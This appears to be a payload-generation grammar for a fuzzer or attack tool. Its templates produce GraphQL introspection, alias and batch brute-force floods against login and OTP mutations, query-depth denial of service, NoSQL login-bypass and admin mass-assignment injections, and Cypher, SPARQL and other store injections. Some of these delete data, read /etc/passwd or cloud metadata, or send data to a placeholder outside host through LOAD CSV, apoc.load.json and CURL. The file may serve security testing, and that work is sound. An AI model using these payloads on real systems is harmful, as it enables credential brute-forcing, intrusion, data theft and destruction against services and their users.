qy.gqname: ‹noun›‹s¦¦By‹Id¦Name››
  ‹user¦users¦me¦search¦product¦orders¦post¦account›
qy.introfield: name
  name
  kind
  description
  fields{name}
  fields{name,args{name,description,type{name,kind}}}
  fields(includeDeprecated:true){name type{name kind ofType{name kind}}}
  inputFields{name}
  enumValues{name}
  possibleTypes{name}
  interfaces{name}
  args{name}
qy.intro: {__schema{‹types¦queryType¦mutationType¦subscriptionType›{‹×1-5 :‹qy.introfield››}}}
  {__schema{types{‹×2-5 :‹qy.introfield››} directives{name args{name}}}}
  query ‹IntrospectionQuery¦‹^1›‹~2-8›¦›{__schema{queryType{name}mutationType{name}subscriptionType{name}types{...‹=v:‹FullType¦‹^1›‹~2-7›››}directives{name description locations args{...InputValue}}}}fragment ‹=v› on __Type{‹×2-6 :‹qy.introfield››}
  ‹query ¦›{⏎  __schema {⏎    types {⏎      ‹name¦kind›⏎      fields { name ‹type { name kind }¦args { name }› }⏎    }⏎  }⏎}
  {__type(name:"‹User¦Query¦Mutation¦Admin¦‹^1›‹~3-7››"){‹×1-5 :‹qy.introfield››}}
  query{‹~1-5›:__type(name:"‹User¦Query¦Mutation¦Root›"){fields{name type{name ofType{name}}}}}
  {‹¦‹qy.gqname›{id} ›__schema{types{name}}}
  query{__schema‹␠¦,,,¦⏎¦⇥›{‹types¦queryType›{name,fields{name,args{name}}}}}
  {__schema{mutationType{fields{name args{name type{name kind}}}}}}
query/graphql-introspection [body-json] 3: 3× {"query":"‹json!‹qy.intro››"}
  {"operationName":"IntrospectionQuery","variables":{},"query":"‹json!‹qy.intro››"}
  {"query":"‹json!‹qy.intro››","variables":‹null¦{}›}
  [{"query":"‹json!‹qy.intro››"}]
  {"query":"\u007b__schema\u007btypes\u007bname fields\u007bname\u007d\u007d\u007d\u007d"}
query/graphql-value [value] 1: 3× ‹qy.intro›
  {‹qy.gqname›(‹col›:"‹word›"){‹qy.pass›}__schema{types{name}}}
  ‹qy.flood›
qy.flood: query{‹:f:‹qy.gqname››‹×10-35 :‹~1-2›‹#1-999›:‹=f›(‹id¦input¦code¦first›:‹#1-9999›){‹id¦name¦__typename›}›}
  mutation{‹:f:‹login¦verifyOtp¦redeemCoupon¦resetPassword¦signIn¦checkCode¦verify2fa››‹:u:‹qy.who››‹:p:‹qy.pass››‹×8-30 :‹~1›‹#1-999›:‹=f›(‹‹username¦email›:"‹=u›",¦›‹=p›:"‹*4-10›"){‹token¦ok¦success›}›}
  {‹×20-70 :__typename›}
  query{‹:f:‹qy.gqname››‹×10-30⏎:  ‹~3-6›: ‹=f›(id: ‹n›) { id ‹name¦email¦__typename› }›}
query/graphql-alias [body-json] 3: {"query":"‹json!‹qy.flood››"}
  {"query":"‹json!‹qy.flood››","variables":{}}
query/graphql-batch [body-json] 2: ‹:f:‹login¦verifyOtp¦redeemCoupon¦signIn¦resetPassword››‹:u:‹qy.who››[‹×6-25,:{"query":"mutation{‹=f›(user:\"‹=u›\",‹pass¦code¦otp›:\"‹*4-10›\"){token}}"}›]
  ‹:f:‹qy.gqname››[‹×10-30,:{"query":"{‹=f›(id:‹#1-9999›){id ‹email¦name¦token›}}"}›]
  [‹×12-40,:{"query":"{__typename}"}›]
  ‹:f:‹login¦authenticate¦pinCheck››[‹×5-15,:{"operationName":"‹=f›","variables":{"‹qy.user›":"‹qy.who›","‹qy.pass›":"‹*4-10›"},"query":"mutation ‹=f›(§u:String!){‹=f›(u:§u){token}}"}›]
qy.deep6: ‹=x›{‹=y›{‹=x›{‹=y›{‹=x›{‹=y›{‹qy.deep›}}}}}}
qy.deep: 3× ‹qy.deep6›
  id
  id ‹name¦email¦__typename›
query/graphql-deep [body-json] 2: ‹:x:‹‹noun›¦author¦edges¦friends¦parent¦comments››‹:y:‹node¦posts¦user¦children¦replies¦‹noun›s››{"query":"‹query ¦query ‹^1›‹~2-6› ¦›{‹qy.gqname›{‹=x›{‹=y›{‹=x›{‹=y›{‹qy.deep6›}}}}}}"}
  ‹:x:edges›‹:y:node›{"query":"{‹qy.gqname›(first:‹#50-9999›){edges{node{‹noun›s(first:‹#50-9999›){edges{node{‹noun›s(first:‹#50-9999›){edges{node{‹qy.deep6›}}}}}}}}}"}
  {"query":"query{...‹=a:‹^1›‹~1-4››}fragment ‹=a› on Query{...‹=b:‹^1›‹~1-4››}fragment ‹=b› on Query{‹qy.gqname›{id}...‹=a›}"}
  {"query":"query ‹^1›‹~1-5›{‹qy.gqname›{...‹=a:‹~1-5››}} fragment ‹=a› on ‹^1›‹~3-7›{id ...‹=a›}"}
  {"query":"{__schema{types{fields{type{fields{type{fields{type{fields{type{name}}}}}}}}}}}"}
  {"query":"{‹=x:‹qy.gqname››(first:‹#100000-99999999›‹¦,offset:-1›){‹×3-9 :‹noun›s(first:‹#10000-999999›){id}›}}"}
query/graphql-directives [body-json] 1: {"query":"query{__typename ‹×12-50 :@‹aa¦skip(if:false)¦include(if:true)¦‹~2-3›››}"}
  ‹:d:‹~1-5››{"query":"‹query¦{‹qy.gqname›{id› ‹×20-70:@‹=d››{__typename}‹}}¦›"}
  ‹:d:‹include(if:true)¦skip(if:false)››{"query":"{‹qy.gqname› ‹×12-40 :@‹=d››{id}}"}
query/graphql-inject [body-json] 3: {"query":"{‹qy.gqname›(‹search¦filter¦where¦query¦options›:\"{\\\"‹qy.pass›\\\":{\\\"§‹ne¦gt¦regex›\\\":\\\"‹¦.*¦^‹~1››\\\"}}\"){‹id¦‹qy.user››‹ ‹qy.pass›¦›}}"}
  {"query":"{users(where:{‹qy.pass›:{‹_regex¦_like¦_gt¦_ilike¦startsWith›:\"‹%¦^‹~1›¦‹~1-2›%¦›\"}}){‹qy.user›‹ ‹qy.pass›¦›}}"}
  {"query":"query(§‹=v:‹~1-5››:JSON){login(filter:§‹=v›){token}}","variables":{"‹=v›":{"‹qy.user›":{"§ne":‹null¦""›},"‹qy.pass›":{"§‹gt¦ne¦regex›":""}}}}
  {"query":"mutation{login(input:{‹qy.user›:\"‹qy.who›\",‹qy.pass›:{§‹ne¦gt¦regex›:\"‹¦.*›\"}}){token}}"}
  {"query":"mutation{‹updateUser¦register¦createUser›(input:{‹qy.user›:\"‹qy.who›\",role:\"admin\",isAdmin:true}){‹qy.pass›}}"}
  {"query":"{‹qy.gqname›(id:\"‹n›\\\"){‹qy.pass›}__schema{types{name}}#\"){id}}"}
  {"query":"‹qy.gqname›","variables":{"id":{"§‹ne¦gt›":‹null¦""¦0›},"‹qy.pass›":{"§regex":"‹qy.rx›"}}}
query/graphql-break 2: "){‹id ¦›‹qy.pass›‹ __typename¦›} ‹~2-5›:‹qy.gqname›(‹id¦name›:"‹n›
  "}){‹token¦id›} users{‹qy.user› ‹qy.pass›} #
  ‹n›"){id}}#
  ‹word›"){id} __schema{types{name}} ‹~1-4›:‹qy.gqname›(‹col›:"
  ‹n›){‹qy.pass›} ‹~1-3›:user(id:‹n›
  "}) { ok } ‹~1-4›: delete‹User¦All¦‹^1›‹~3-6››(id: "‹n›") { id } #
  ‹word›\") { id ‹qy.pass› } #

query/cypher 2: ‹:q:‹'¦"››‹=q› ‹OR¦or› ‹=a:‹n››=‹=a› ‹WITH¦with› ‹n› ‹AS¦as› ‹~1› CALL ‹db.labels() YIELD label¦dbms.components() YIELD name¦apoc.load.json("http://‹addr›/‹~1-4›") YIELD value› ‹LOAD CSV FROM 'http://‹addr›/?‹~1›='+label AS ‹=b:‹~1-3›› RETURN ‹=b›¦RETURN ‹n›¦RETURN *›‹ //¦//›
  ‹:q:‹'¦"››‹=q›‹})¦¦)› RETURN ‹~1› UNION MATCH (‹=b:‹~1-2››:‹User¦Account¦Admin¦‹^1›‹~3-7››) RETURN ‹=b›‹.‹qy.pass›¦›‹ AS ‹~1›¦› //
  ‹:q:‹'¦"››‹=q›‹})¦)¦› ‹DETACH DELETE ‹~1›¦SET ‹~1›.role=‹=q›admin‹=q›¦WITH ‹~1› MATCH (x) DETACH DELETE x¦RETURN 1› //
  ‹:q:‹'¦"››‹=q›}) MATCH (‹=b:‹~1-2››) DETACH DELETE ‹=b› //
  ‹:q:‹'¦"››‹=q› OR ‹exists(‹~1›.‹qy.pass›)¦‹~1›.‹qy.pass› STARTS WITH ‹=q›‹~1›‹=q›¦‹~1›.‹qy.pass› =~ ‹=q›‹~1›.*‹=q›› //
  ‹n›}) CALL apoc.‹util.sleep(‹#1000-20000›)¦systemdb.execute('SHOW USERS')¦cypher.runFile('http://‹addr›/‹~1-4›')› YIELD value RETURN 1 //
  ' UNION LOAD CSV FROM "‹file:///etc/passwd¦http://169.254.169.254/latest/meta-data/¦http://‹addr›/›" AS y RETURN y‹//¦ LIMIT 1//¦ //›
query/sparql 1: ‹"¦'›‹ .¦› ?‹~1› ?‹~1› ?‹~1› ‹.¦›} ‹#¦UNION {?s ?p ?o} #¦LIMIT ‹#100-99999› #›
  ‹>¦"¦'› } ; ‹DROP ALL¦CLEAR GRAPH <http://‹host›/‹~2-6›>¦DELETE WHERE {?s ?p ?o}¦INSERT DATA {<urn:‹~2-4›> <urn:admin> true}› ‹#¦; #›
  "} UNION {?‹~1› <http://‹host›/‹qy.pass›> ?‹~1›} #
  ‹word›" || ‹true¦1=1¦regex(?‹qy.pass›,"^‹~1›")›) } #
  ‹n›} SERVICE <http://‹addr›/sparql> {?s ?p ?o} #
  ') || isIRI(?‹~1›) || (‹'‹=v:‹~1-2››'='‹=v›'¦true› #
query/store 1: ‹:q:‹'¦"››‹=q› OR ENCODE_JSON((SELECT * FROM system:‹keyspaces¦datastores¦indexes›)) != ‹=q›
  ‹n›' UNION SELECT CURL("http://‹addr›/‹~1-4›",{"request":"POST"}) //
  ‹word›' ALLOW FILTERING‹; --¦ //¦;›
  ‹word›' OR token(‹qy.user›) > token('') ALLOW FILTERING --
  ‹word›' OR IS_DEFINED(c.‹qy.pass›) OR '‹=v:‹~1›'›='‹=v›
  ‹word›" OR ARRAY_LENGTH(c.‹qy.cred›)>=0 OR "
  ' | FOR ‹=v:‹~1-3›› IN ‹users¦_users¦‹~3-7›› RETURN ‹=v›‹.‹qy.pass›¦› //
  " || true RETURN ‹~1› FOR ‹=v:‹~1-2›› IN _users RETURN ‹=v› //
  ') | where 1==1 | union ‹users¦secrets¦‹~3-8›› //
  ‹word›"; drop(bucket:"‹~3-8›") //
  ‹word›"} or on() {__name__=~".+"} or up{‹~2-5›="
  ") |> yield() from(bucket:"‹~3-8›") |> range(start:-‹#1-99›y) //
`
